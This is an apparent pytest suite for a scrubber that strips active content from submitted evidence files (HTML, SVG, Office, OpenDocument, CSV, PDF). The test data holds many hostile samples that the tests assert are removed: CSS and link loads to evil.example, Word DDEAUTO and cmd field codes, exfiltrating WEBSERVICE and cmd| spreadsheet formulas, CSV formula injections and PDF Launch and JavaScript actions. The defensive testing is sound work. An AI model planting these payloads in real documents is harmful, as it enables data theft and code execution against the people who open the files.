"""Evidence that loads, runs or asks somebody as soon as a reviewer opens it: nothing of that is in the copy."""

from __future__ import annotations

import io
import re
import sys
from xml.sax.saxutils import escape, quoteattr

import pytest
from pypdf import PdfWriter
from pypdf.annotations import Link
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, RectangleObject, TextStringObject

import evidence_office as office
from attack_cost import measured
from evidence_samples import MEDIA_TYPES
from openbadge_issuer.adapters.scrubbers import SCRUBBERS
from openbadge_issuer.assessment.blinding.values import Scrubbed
from openbadge_issuer.assessment.media_types import sniff
from openbadge_issuer.errors import InputError

SVG = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'

DOCUMENT = f"{office.OFFICE}.wordprocessingml.document.main+xml"


def scrubbed(media_type: str, content: str) -> tuple[Scrubbed, str]:
    source, target = io.BytesIO(content.encode()), io.BytesIO()
    with measured():
        said = SCRUBBERS[media_type](source, target)
    return said, target.getvalue().decode()


# what a file is


@pytest.mark.parametrize(
    ("content", "media_type"),
    [
        ("<html><body><p>Plan</p><svg width='1'><circle r='1'/></svg></body></html>", "text/html"),
        ("<!DOCTYPE html><svg xmlns='http://www.w3.org/2000/svg'/>", "text/html"),
        ("<?xml version='1.0'?><html xmlns='http://www.w3.org/1999/xhtml'><svg /></html>", "text/html"),
        ("<head><title>x</title></head><svg ></svg>", "text/html"),
        (f"<!-- {'x' * 1100} --><html><svg ></svg>", "text/html"),
        ("<!-- <html > --><svg xmlns='http://www.w3.org/2000/svg'/>", "image/svg+xml"),
        (
            "<?xml version='1.0'?>\n<!DOCTYPE svg PUBLIC 'a' 'b' [<!ENTITY a 'b'>]>\n<svg xmlns='x'/>",
            "image/svg+xml",
        ),
        ("<s:svg xmlns:s='http://www.w3.org/2000/svg'/>", "image/svg+xml"),
        ("<p>Plan</p><svg ></svg>", "text/plain"),
        ("<svgs/>", "text/plain"),
    ],
)
def test_the_root_says_what_a_file_is(content: str, media_type: str) -> None:
    assert sniff(io.BytesIO(content.encode()), "plan.html") == media_type


@pytest.mark.parametrize(
    "content",
    [
        "<html><body>Plan<svg xmlns='http://www.w3.org/2000/svg'/></body></html>",
        "<svg><text>Plan</text></svg>",
        "<svg xmlns='http://www.w3.org/1999/xhtml'/>",
        "<g xmlns='http://www.w3.org/2000/svg'/>",
    ],
)
def test_what_is_no_drawing_is_refused(content: str) -> None:
    with pytest.raises(InputError) as caught:
        scrubbed("image/svg+xml", content)
    assert caught.value.detail_code == "evidence.unreadable"


@pytest.mark.parametrize(
    ("media_type", "content"),
    [
        ("text/html", "<html><body><svg><text>Plan</text></svg></body></html>"),
        ("text/html", "<noscript>Plan"),
        ("image/svg+xml", f"<svg {SVG}><metadata>Plan</metadata></svg>"),
    ],
)
def test_a_copy_that_says_nothing_is_a_finding(media_type: str, content: str) -> None:
    said, _ = scrubbed(media_type, content)
    assert said.unread == ("file, in whose copy no text is left",)


# work


class Counter:
    """Counts the lines of the scrubbers that run, since no clock is the same twice."""

    def __init__(self) -> None:
        self.lines = 0

    def __call__(self, frame: object, event: str, _: object) -> Counter:
        self.lines += event == "line"
        return self


def lines_for(media_type: str, content: str) -> int:
    counter, before = Counter(), sys.gettrace()
    sys.settrace(counter)
    try:
        scrubbed(media_type, content)
    except InputError:
        pass
    finally:
        sys.settrace(before)
    return counter.lines


REPEATED = [
    "<!--", "<a", "<a ", "<a b='", '<a b="', "</a", "<![CDATA[", "<?", "</", "<!", "<style>", "<script></a", "<title><",
    "<a =", "<b>", "<plaintext>", "&", "<p style='a:url('>", "<!---",
]  # fmt: skip


@pytest.mark.parametrize("piece", REPEATED)
def test_a_page_takes_no_more_work_than_its_length_explains(piece: str) -> None:
    scrubbed("text/html", "<p>warm</p>")
    small, large = lines_for("text/html", piece * 200), lines_for("text/html", piece * 2_000)
    assert large < small * 12 + 1_000


@pytest.mark.parametrize(
    "page", ["<b>" * 250_001, "x</b" + " y" * 300_001 + ">", "<b" + " y" * 300_001 + ">"]
)
def test_a_page_has_a_bound_of_tags_and_attributes(page: str) -> None:
    with pytest.raises(InputError) as caught:
        scrubbed("text/html", page)
    assert caught.value.detail_code == "limit.markup"


SLOW = ["url(", "url( ", "@import ", "a{", "}", "rgb(", "url(#", "a{fill:", "\\", "/*", ";"]


@pytest.mark.parametrize("piece", SLOW)
@pytest.mark.parametrize("frame", ["<style>{}</style><p>x</p>", "<style>url({}", "<p style='{}'>x</p>"])
def test_styles_take_no_more_work_than_their_length_explains(frame: str, piece: str) -> None:
    """A million characters: with the square of that this would not end today."""
    style = piece * (1_000_000 // len(piece))
    scrubbed("text/html", frame.format(style))
    drawing = frame.format(style).replace("<p", "<rect").replace("x</p>", "</rect>")
    try:
        scrubbed("image/svg+xml", f"<svg {SVG}>{drawing}</svg>")
    except InputError as error:
        assert error.detail_code == "evidence.unreadable"  # noqa: PT017 - where the style has no end


@pytest.mark.parametrize(
    "page", ["<p>x<!-- y", "<p>x<a href='y", "<p>x<a ", "<p>x</a", "<p>x<![CDATA[ y", "<p>x<? y"]
)
def test_a_page_with_a_tag_that_is_left_open_is_refused(page: str) -> None:
    with pytest.raises(InputError) as caught:
        scrubbed("text/html", page)
    assert caught.value.detail_code == "evidence.unreadable"


# pages and drawings

STYLES = [
    r"background:u\72l(https://evil.example/who)",
    'background-image:image-set("https://evil.example/who" 1x)',
    'background:-webkit-image-set("https://evil.example/who" 1x)',
    "background:url/**/(https://evil.example/who)",
    r"background:UR\4c(//evil.example/who)",
    'background:src("https://evil.example/who")',
    "background:url('https://evil.example/who')",
    "background:url(#a) url(//evil.example/who)",
    "filter:url(evil.example/who#a)",
    "fill:rgb(0,0,0)url(//evil.example/who)",
    "color:red;cursor:url(//evil.example/who)",
    "behavior:url(//evil.example/who)",
    "list-style:url(//evil.example/who)",
]


@pytest.mark.parametrize("style", STYLES)
def test_no_style_loads(style: str) -> None:
    quoted = style.replace('"', "&quot;")
    page, drawing = f'<p style="{quoted}">x</p>', f'<rect style="{quoted}"/>'
    sheet = f"<style>p{{{style}}} @media print{{p{{{style}}}}}</style>"
    for media_type, content in (
        ("text/html", f"{page}{sheet}"),
        ("image/svg+xml", f"<svg {SVG}>{drawing}{sheet}</svg>"),
    ):
        said, copy = scrubbed(media_type, content)
        assert "evil" not in copy
        assert any("style" in one.what for one in said.removed)


@pytest.mark.parametrize(
    "sheet",
    [
        '@import "https://evil.example/who";',
        '@\\69mport "https://evil.example/who";',
        '@font-face{font-family:q;src:\\000075rl("https://evil.example/who")}p{font-family:q}',
        "p{color:red}<!-- @import 'https://evil.example/who'; -->",
        "p[title='https://evil.example/who']{color:red}",
    ],
)
def test_no_style_sheet_loads(sheet: str) -> None:
    assert "evil" not in scrubbed("text/html", f"<style>{sheet}</style>x")[1]
    if "<" not in sheet:
        assert "evil" not in scrubbed("image/svg+xml", f"<svg {SVG}><style>{sheet}</style></svg>")[1]


@pytest.mark.parametrize(
    "name", ["fill", "filter", "mask", "stroke", "clip-path", "marker-end", "cursor", "unknown"]
)
@pytest.mark.parametrize(
    "value", [r"u\72l(//evil.example/a#b)", "url(//evil.example/a#b)", "image-set('//evil.example/a' 1x)"]
)
def test_no_attribute_of_a_shape_loads(name: str, value: str) -> None:
    said, copy = scrubbed("image/svg+xml", f'<svg {SVG}><rect {name}="{value}"/></svg>')
    assert "evil" not in copy
    assert said.removed


def test_what_only_says_how_something_looks_stays() -> None:
    _, copy = scrubbed(
        "image/svg+xml",
        f"<svg {SVG}><style>.a {{ fill: #abc }}</style>"
        '<rect style="stroke:url(#b);fill:rgb(1, 2, 3)" fill="url(#c)" transform="translate(1,2) rotate(45)"/></svg>',
    )
    assert ".a { fill: #abc }" in copy
    assert (
        'style="stroke: url(#b); fill: rgb(1, 2, 3)" fill="url(#c)" transform="translate(1,2) rotate(45)"'
        in copy
    )


@pytest.mark.parametrize(
    "link",
    [
        "java&#10;script:alert(1)",
        "&#1;javascript:alert(1)",
        " java&#9;script&#13;:alert(1)",
        "vbscript:x",
        "data:text/html,x",
        "file:///etc/hosts",
        "//evil.example",
        r"\\evil.example\share",
        "blob:x",
        "ms-word:ofe|u|https://evil.example",
        "plan.html",
    ],
)
def test_links_lead_to_the_web_or_nowhere(link: str) -> None:
    assert "href" not in scrubbed("text/html", f'<a href="{link}">x</a>')[1]
    link = link.replace("&#1;", "")  # which XML can not say
    copy = scrubbed(
        "image/svg+xml", f'<svg {SVG}><a href="{link}" xlink:href="{link}"><text>x</text></a></svg>'
    )[1]
    assert "href=" not in copy


@pytest.mark.parametrize("link", ["https://a.example/b", "HTTP://a.example", "mailto:ada@a.example", "#plan"])
def test_links_to_the_web_stay(link: str) -> None:
    said, copy = scrubbed("text/html", f'<a href=" {link}">x</a>')
    assert f'href="{link}"' in copy
    assert any(link == one.text for one in said.passages)


# documents

FIELDS = [
    r'INCLUDEPICTURE "https://evil.example/who.png" \d',
    'INCLUDETEXT "https://evil.example/who"',
    r'LINK Excel.Sheet.12 "\\\\evil.example\\share\\a.xlsx"',
    r'DDE c:\\windows\\cmd "evil.example"',
    r'DDEAUTO c:\\windows\\cmd "evil.example"',
    'HYPERLINK "file://evil.example/share"',
    'QUOTE 104 { INCLUDETEXT "https://evil.example" }',
]


def document(inside: str, **parts: str) -> bytes:
    made = office.Package()
    made.link("/", "officeDocument", "word/document.xml")
    made.add("word/document.xml", office.root("w:document", f"<w:body>{inside}</w:body>"), DOCUMENT)
    for name, body in parts.items():
        made.add(
            f"word/{name}.xml", body, f"{DOCUMENT[:-9]}{name}+xml", source="word/document.xml", kind=name
        )
    return made.to_bytes()


def copied(form: str, content: bytes) -> tuple[Scrubbed, dict[str, str]]:
    target = io.BytesIO()
    said = SCRUBBERS[MEDIA_TYPES[form]](io.BytesIO(content), target)
    return said, {name: body.decode() for name, body in office.unzipped(target.getvalue()).items()}


@pytest.mark.parametrize("field", FIELDS)
@pytest.mark.parametrize("way", ["simple", "whole", "split"])
def test_field_codes_go_and_their_results_stay(field: str, way: str) -> None:
    code = escape(field)
    run = "<w:r><w:fldChar w:fldCharType='{}'/></w:r>"
    codes = "".join(f"<w:r><w:instrText>{escape(one)}</w:instrText></w:r>" for one in field)
    parted = codes if way == "split" else f"<w:r><w:instrText>{code}</w:instrText></w:r>"
    result = "<w:r><w:t>Twelve learners</w:t></w:r>"
    inside = f"{run.format('begin')}{parted}{run.format('separate')}{result}{run.format('end')}"
    if way == "simple":
        inside = f"<w:fldSimple w:instr={quoteattr(field)}>{result}</w:fldSimple>"
    said, copy = copied("docx", document(f"<w:p>{inside}</w:p>"))
    body = copy["word/document.xml"]
    assert "Twelve learners" in body
    assert "fld" not in body
    assert "instr" not in body
    assert not any("evil" in one for one in copy.values())
    assert any(one.what == "field code" for one in said.removed)


LINKS = [
    "file://evil.example/share",
    r"\\evil.example\share",
    "file:///c:/evil.example",
    "ms-excel:ofe|u|evil.example",
]


@pytest.mark.parametrize("target", LINKS)
def test_links_of_documents_to_files_go(target: str) -> None:
    made = office.Package()
    main = "word/document.xml"
    made.link("/", "officeDocument", main)
    key = made.link(main, "hyperlink", target, external=True)
    inside = f'<w:p><w:hyperlink r:id="{key}"><w:r><w:t>Twelve learners</w:t></w:r></w:hyperlink></w:p>'
    made.add(main, office.root("w:document", f"<w:body>{inside}</w:body>"), DOCUMENT)
    said, copy = copied("docx", made.to_bytes())
    assert "Twelve learners" in copy[main]
    assert not any("evil" in one for one in copy.values())
    assert any("outside" in one.what for one in said.removed)


@pytest.mark.parametrize("attribute", ['src="https://evil.example/a"', 'o:href="https://evil.example/a"'])
def test_pictures_of_old_drawings_load_nothing(attribute: str) -> None:
    spaces = 'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"'
    inside = f"<w:p><w:r><w:pict><v:shape {spaces}><v:imagedata {attribute}/></v:shape></w:pict></w:r></w:p>"
    said, copy = copied("docx", document(inside))
    assert "evil" not in copy["word/document.xml"]
    assert said.removed


FORMULAS = [
    '_xlfn.WEBSERVICE("https://evil.example/who?"&CELL("filename"))',
    '_xlfn.IMAGE("https://evil.example/i.png")',
    'IMPORTXML("https://evil.example/x","//a")',
    'IMPORTDATA("https://evil.example")',
    'IMPORTRANGE("evil.example","A1")',
    'HYPERLINK("file://evil.example/share","x")',
    r'HYPERLINK("\\evil.example\share")',
    'HYPERLINK("fi"&"le://evil.example")',
    "cmd|'/c calc evil.example'!A0",
    "'https://evil.example/[Book.xlsx]S'!A1",
    r"'\\evil.example\[Book.xlsx]S'!A1",
    "[1]evil.example!A1",
    "'evil.example.xlsx'!Name",
    'RTD("evil.example",,"x")',
    '\'a"b\'!A1&WEBSERVICE("evil.example")',
    'SUM(1)+WEBSERVICE ("evil.example")',
    "SOMETHING.NEW(evil.example)",
]


def workbook(formula: str, more: str = "") -> bytes:
    made, main, kind = office.Package(), "xl/workbook.xml", f"{office.OFFICE}.spreadsheetml"
    made.link("/", "officeDocument", main)
    cells = f'<x:c r="A1" t="str">{formula}<x:v>Twelve learners</x:v></x:c>'
    sheet = office.root("x:worksheet", f'<x:sheetData><x:row r="1">{cells}</x:row></x:sheetData>{more}')
    key = made.add("xl/worksheets/sheet1.xml", sheet, f"{kind}.worksheet+xml", source=main, kind="worksheet")
    name = f'<x:definedNames><x:definedName name="n">{re.sub("<[^>]*>", "", formula)}</x:definedName></x:definedNames>'
    sheets = f'<x:sheets><x:sheet name="Plan" sheetId="1" r:id="{key}"/></x:sheets>{name}'
    made.add(main, office.root("x:workbook", sheets), f"{kind}.sheet.main+xml")
    return made.to_bytes()


@pytest.mark.parametrize("formula", FORMULAS)
def test_formulas_that_ask_somebody_leave_their_values(formula: str) -> None:
    code = escape(formula)
    rule = f"<x:cfRule><x:formula>{code}</x:formula></x:cfRule>"
    rule = f'<x:conditionalFormatting sqref="A1">{rule}</x:conditionalFormatting>'
    said, copy = copied("xlsx", workbook(f'<x:f t="shared" si="0" ref="A1">{code}</x:f>', rule))
    sheet = copy["xl/worksheets/sheet1.xml"]
    assert "<x:v>Twelve learners</x:v>" in sheet
    assert "x:f " not in sheet
    assert "<x:formula>0</x:formula>" in sheet
    assert "definedName " not in copy["xl/workbook.xml"]
    assert not any("evil" in one for one in copy.values())
    assert any("formula" in one.what for one in said.removed)


@pytest.mark.parametrize(
    "formula", ["SUM(A1:B2)*2", "IF(Plan!A1>3,&quot;yes (really)&quot;,&quot;no&quot;)", "Table1[Level]"]
)
def test_formulas_that_only_compute_stay(formula: str) -> None:
    _, copy = copied("xlsx", workbook(f"<x:f>{formula}</x:f>"))
    assert (
        f"<x:f>{formula.replace('&quot;', chr(34)).replace('>', '&gt;')}</x:f>"
        in copy["xl/worksheets/sheet1.xml"]
    )
    assert "definedName " in copy["xl/workbook.xml"]


def test_an_element_in_a_formula_hides_nothing() -> None:
    _, copy = copied("xlsx", workbook("<x:f>1+<x:b/>WEBSERVICE(&quot;evil&quot;)</x:f>"))
    assert not any("evil" in one or "<x:f" in one for one in copy.values())


TABLE = [
    ("=1+1", "'=1+1"),
    ("a,=WEBSERVICE(1)", "a,'=WEBSERVICE(1)"),
    ('a;"=cmd|x"', 'a;"\'=cmd|x"'),
    ("a\t@SUM(1)", "a\t'@SUM(1)"),
    ("a,+1+1", "a,'+1+1"),
    ("a,-1+cmd|x", "a,'-1+cmd|x"),
    ("a\r=1", "a\r'=1"),
    ("a, =1", "a, '=1"),
    ("a,\t=1", "a,\t'=1"),
    ("a,\uff1d1", "a,'\uff1d1"),
    ("sep=x\n1x=2", "1x=2"),
    ("sep=x\r\nsep=y\r\n1x=2", "1x=2"),
]


@pytest.mark.parametrize(("before", "after"), TABLE)
def test_cells_that_are_formulas_become_texts(before: str, after: str) -> None:
    said, copy = scrubbed("text/csv", before)
    assert copy == after
    assert said.removed


@pytest.mark.parametrize("row", ["a,-1", "a;-1,5;b", '"-12.5%","b"', "-1", "a,-1.5e-3\nb", "a=b,c-d,e@f"])
def test_plain_cells_stay(row: str) -> None:
    said, copy = scrubbed("text/csv", row)
    assert copy == row
    assert said.removed == ()


def test_a_table_of_blanks_takes_no_square() -> None:
    for piece in (" ", '"', ", ", "-1", ",-1", "\n ", "sep=\n"):
        scrubbed("text/csv", piece * (1_000_000 // len(piece)) + "x")


ELEMENTS = [
    '<text:section text:name="a"><text:section-source xlink:href="https://evil.example/a"/></text:section>',
    '<text:p><draw:frame><draw:floating-frame xlink:href="https://evil.example/a"/></draw:frame></text:p>',
    '<text:p><draw:frame><draw:image xlink:href="https://evil.example/a"/></draw:frame></text:p>',
    '<form:form xlink:href="https://evil.example/a"/>',
    '<form:button form:button-type="url" xlink:href="https://evil.example/a"/>',
    '<form:image form:image-data="https://evil.example/a"/>',
    '<text:dde-connection-decls><text:dde-connection-decl office:dde-topic="evil.example"/></text:dde-connection-decls>',
    '<text:p><text:a xlink:href="file://evil.example/a">here</text:a></text:p>',
    '<text:p><text:bookmark xlink:href="https://evil.example/a"/></text:p>',
    '<table:table><table:table-source xlink:href="https://evil.example/a"/></table:table>',
    '<table:dde-links><table:dde-link><office:dde-source office:dde-item="evil"/></table:dde-link></table:dde-links>',
    '<table:table-cell table:formula="of:=WEBSERVICE(&quot;https://evil.example&quot;)"/>',
    '<table:table-cell table:formula="of:=DDE(&quot;soffice&quot;;&quot;evil.example&quot;;&quot;a&quot;)"/>',
    '<table:table-cell table:formula="of:=[&apos;file://evil.example/a.ods&apos;#$A.B1]"/>',
    '<table:table-cell table:formula="msoxl:=cmd|&apos;/c evil.example&apos;!A0"/>',
    '<table:named-expression table:expression="of:=WEBSERVICE(&quot;evil.example&quot;)"/>',
]


@pytest.mark.parametrize("element", ELEMENTS)
def test_nothing_of_an_open_document_loads(element: str) -> None:
    parts = office.unzipped(office.odf("odt", "body", "Plan"))
    root, end = b"<office:document-content", b"</office:text>"
    spaces = 'xmlns:form="urn:oasis:names:tc:opendocument:xmlns:form:1.0" '
    spaces += 'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0"'
    wrapped = (
        f"<text:section {'' if b'xmlns:form' in parts['content.xml'] else spaces}>{element}</text:section>"
    )
    parts["content.xml"] = parts["content.xml"].replace(end, wrapped.encode() + end)
    assert root in parts["content.xml"]
    said, copy = copied("odt", office.zipped(parts))
    assert "Twelve learners" in copy["content.xml"]
    assert not any("evil" in one for one in copy.values())
    assert any("outside" in one.what for one in said.removed)


@pytest.mark.parametrize("target", [*LINKS, "https://people.example/plan"])
def test_links_of_a_pdf_to_files_go(target: str) -> None:
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    writer.add_uri(0, target, RectangleObject((0, 0, 9, 9)))
    before, after = io.BytesIO(), io.BytesIO()
    writer.write(before)
    said = SCRUBBERS["application/pdf"](before, after)
    told = [one.text for one in said.passages if one.place == "page 1, link"]
    assert told == ([target] if target.startswith("https:") else [])
    assert b"evil" not in after.getvalue()


@pytest.mark.parametrize("kind", ["Launch", "GoToR", "SubmitForm", "JavaScript", "ImportData"])
@pytest.mark.parametrize("way", ["own", "next", "next of many"])
def test_actions_of_a_pdf_go(kind: str, way: str) -> None:
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    action = DictionaryObject(
        {NameObject("/S"): NameObject(f"/{kind}"), NameObject("/F"): TextStringObject("evil.example")}
    )
    if way != "own":
        before_it = DictionaryObject(
            {NameObject("/S"): NameObject("/URI"), NameObject("/URI"): TextStringObject("#a")}
        )
        before_it[NameObject("/Next")] = action if way == "next" else ArrayObject([action])
        action = before_it
    writer.add_annotation(0, Link(rect=(0, 0, 9, 9), url="https://people.example"))[NameObject("/A")] = action
    before, after = io.BytesIO(), io.BytesIO()
    writer.write(before)
    assert b"evil" in before.getvalue()
    said = SCRUBBERS["application/pdf"](before, after)
    assert b"evil" not in after.getvalue()
    assert any(one.what == "action" for one in said.removed)


def test_a_page_tells_browsers_to_load_nothing() -> None:
    _, copy = scrubbed("text/html", "<p>Plan</p>")
    assert copy.index("default-src 'none'") < copy.index("Plan")
    said, _ = scrubbed("text/html", copy)
    assert said.removed == ()


def test_cells_that_share_a_formula_that_went_lose_it_too() -> None:
    cells = (
        '<x:f t="shared" ref="A1:A2" si="0">WEBSERVICE("evil")</x:f><x:v>1</x:v></x:c>'
        '<x:c r="B1"><x:f t="shared" si="0"/><x:v>2</x:v></x:c><x:c r="C1"><x:f t="shared" ref="C1:D1" si="1">A1+1</x:f>'
        '<x:v>3</x:v></x:c><x:c r="D1"><x:f t="shared" si="1"/>'
    )
    _, copy = copied("xlsx", workbook(cells.replace('"evil"', "&quot;evil&quot;")))
    sheet = copy["xl/worksheets/sheet1.xml"]
    assert 'si="0"' not in sheet
    assert sheet.count('si="1"') == 2
    assert "<x:v>2</x:v>" in sheet
